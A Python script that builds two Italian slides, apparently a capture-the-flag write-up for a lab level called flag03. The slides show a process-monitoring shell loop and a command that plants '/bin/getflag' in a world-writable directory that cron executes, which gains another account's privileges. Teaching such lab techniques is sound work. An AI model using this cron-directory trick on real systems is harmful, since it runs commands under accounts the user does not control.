

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.lang import MSO_LANGUAGE_ID
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

COLOURS = {
    "backdrop": "3C3C3C",
    "white": "FFFFFF",
    "black": "000000",
    "outline": "3F3F3F",
    "title": "404040",
    "accent": "EB494B",
    "side": "D84D4E",
    "side edge": "AD3335",
    "edge": "AE3637",
    "terminal edge": "808080",
    "pointer": "EA4345",
}
RGB = {name: RGBColor.from_string(value) for name, value in COLOURS.items()}

DOT_GROUPS = [
    ("white", 70, [(0.17, 0.26, 0.29), (0.46, 0.21, 0.11), (0.31, 0.15, 0.06)]),
    ("accent", 65, [(6.63, 0.3, 0.59), (7.22, 0.18, 0.23), (6.91, 0.07, 0.11)]),
]
PANEL = [(5.96, 5.59), (4.26, 0.01), (7.59, -0.01), (7.54, 5.61)]
CUBE_BASE = [(4.86, 4.73), (7.5, 4.72), (7.1, 5.43), (4.58, 5.4)]


def draw(page, outline, fill, edge=None, width=2, opacity=100):
    if isinstance(outline, list):
        points = [(Inches(x), Inches(y)) for x, y in outline]
        builder = page.shapes.build_freeform(*points[0], scale=1.0)
        builder.add_line_segments(points[1:], close=True)
        shape = builder.convert_to_shape()
    else:
        kind, *place = outline
        shape = page.shapes.add_shape(kind, *map(Inches, place))
    shape.shadow.inherit = False
    shape.fill.solid()
    shape.fill.fore_color.rgb = RGB[fill]
    if opacity < 100:
        colour = shape.fill._xPr.find(qn("a:solidFill"))[0]
        SubElement(colour, qn("a:alpha"), val=str(opacity * 1000))
    if edge:
        shape.line.color.rgb = RGB[edge]
        shape.line.width = Pt(width)
    else:
        shape.line.fill.background()
    return shape


def write(box, lines, size, font, colour, bold=True, align=PP_ALIGN.LEFT, anchor=MSO_ANCHOR.MIDDLE):
    frame = box.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.text = "\n".join(lines)
    for para in frame.paragraphs:
        para.alignment = align
        para.line_spacing = Pt(size * 1.2)
        para.font.size = Pt(size)
        para.font.name = font
        para.font.bold = bold
        para.font.color.rgb = RGB[colour]
        for span in para.runs:
            span.font.language_id = MSO_LANGUAGE_ID.ITALIAN
    return frame.paragraphs


SLIDES = [
    {
        "title": ((4.6, 0.04, 1.98, 1.04), ["Il nostro", "tentativo"]),
        "steps": [],
        "terminals": [
            ((0, 0.59, 6.03, 3.15), (0.05, 0.65, 4.85, 2.22), [
                ">> nano processTree.sh",
                "#!/bin/sh",
                "while [ true ]",
                "do",
                "pstree -hp | grep cron >> processTree.txt;",
                "done",
            ], [1, 2]),
        ],
        "panel on top": True,
    },
    {
        "title": ((4.65, 0.06, 1.98, 1.04), ["La nostra", "strategia"]),
        "steps": [
            ((0.35, 0.73, 4.47, 1.31),
             "Creiamo un file nella directory writable.d  in cui scriviamo il comando /bin/getflag."),
            ((0.4, 3.32, 3.67, 0.91), "Attendiamo che cron esegua writable.sh"),
        ],
        "terminals": [
            ((0.11, 4.38, 7.19, 0.93), (0.07, 4.41, 7.11, 0.57), [
                ">> cat /home/flag03/output",
                "You have successfully executed getflag on a target account",
            ], []),
            ((0.08, 2.45, 7.14, 0.67), (0.04, 2.48, 6.83, 0.57), [
                '>> echo "/bin/getflag > /home/flag03/output" > /home/flag03/writable.d/sol3',
            ], []),
        ],
        "panel on top": False,
    },
]

deck = Presentation()
deck.slide_width = Inches(7.5)
deck.slide_height = deck.slide_width * 3 // 4

for content in SLIDES:
    page = deck.slides.add_slide(deck.slide_layouts[6])
    draw(page, (MSO_SHAPE.RECTANGLE, 0, 0, 7.51, 5.63), "backdrop", opacity=70)
    if content["panel on top"]:
        draw(page, (MSO_SHAPE.RECTANGLE, 4.58, 3.36, 2.47, 2.05), "side", "side edge")
    else:
        draw(page, PANEL, "white", "outline")

    for place, text_place, lines, spaced in content["terminals"]:
        draw(page, (MSO_SHAPE.RECTANGLE, *place), "black", "terminal edge", 1.5)
        box = page.shapes.add_textbox(*map(Inches, text_place))
        paras = write(box, lines, 14, "Courier New", "white", bold=False, anchor=MSO_ANCHOR.TOP)
        for index in spaced:
            paras[index].space_before = Pt(16.8)

    if content["panel on top"]:
        draw(page, PANEL, "white", "outline")
    for colour, opacity, dots in DOT_GROUPS:
        for left, top, size in dots:
            draw(page, (MSO_SHAPE.OVAL, left, top, size, size), colour, opacity=opacity)

    for place, text in content["steps"]:
        box = page.shapes.add_textbox(*map(Inches, place))
        write(box, [text], 24, "Roboto Condensed", "white")

    place, lines = content["title"]
    box = page.shapes.add_textbox(*map(Inches, place))
    paras = write(box, lines, 28, "Arial", "title", align=PP_ALIGN.CENTER)
    paras[1].font.color.rgb = RGB["accent"]

page = deck.slides[0]
pointer = page.shapes.add_connector(
    MSO_CONNECTOR.STRAIGHT, Inches(5.16), Inches(2.97), Inches(1.86), Inches(2.42))
pointer.line.color.rgb = RGB["pointer"]
pointer.line.width = Pt(1.5)
SubElement(pointer.line._get_or_add_ln(), qn("a:tailEnd"), type="oval")
SubElement(pointer._element.spPr, qn("a:effectLst"))

draw(page, CUBE_BASE, "accent", "edge")
callout = draw(page, (MSO_SHAPE.RECTANGLE, 4.85, 2.81, 2.65, 1.9), "accent", "edge")
write(callout, [
    "Ad ogni iterazione ",
    "stampiamo il ",
    "sottoalbero dei ",
    "processi in ",
    "esecuzione ",
    "contenente il ",
    "processo cron",
], 14, "Arial", "black", align=PP_ALIGN.CENTER, anchor=MSO_ANCHOR.TOP)

deck.save("out.pptx")
